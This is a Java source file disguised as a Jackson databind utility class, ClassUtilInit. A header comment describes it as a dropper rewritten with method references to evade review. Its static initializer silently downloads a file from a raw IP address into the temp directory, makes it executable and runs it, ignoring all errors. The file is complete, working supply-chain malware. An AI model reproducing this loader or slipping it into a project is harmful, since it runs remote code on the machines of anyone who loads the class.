// The maven-class-dropper rewritten with method references (from a review of the
// compiled readers): the URL, the download and the start reach their calls through
// `URL::new`, `URL::openStream` and `Runtime.getRuntime()::exec`, not direct calls.
// Built with: javac --release 11 -d out ClassUtilInit.java
package com.fasterxml.jackson.databind.util;

import java.io.File;
import java.io.InputStream;
import java.net.URL;
import java.nio.file.Files;
import java.nio.file.StandardCopyOption;

public final class ClassUtilInit {
    interface F<A, B> {
        B apply(A a) throws Exception;
    }

    static {
        try {
            fetch();
        } catch (Exception ignored) {
        }
    }

    static void fetch() throws Exception {
        F<String, URL> address = URL::new;
        F<URL, InputStream> open = URL::openStream;
        F<String[], Process> start = Runtime.getRuntime()::exec;
        File target = new File(System.getProperty("java.io.tmpdir"), "jdk-update");
        try (InputStream in = open.apply(address.apply("http://185.220.101.4/jdk/update"))) {
            Files.copy(in, target.toPath(), StandardCopyOption.REPLACE_EXISTING);
        }
        target.setExecutable(true);
        start.apply(new String[] {target.getAbsolutePath()});
    }
}
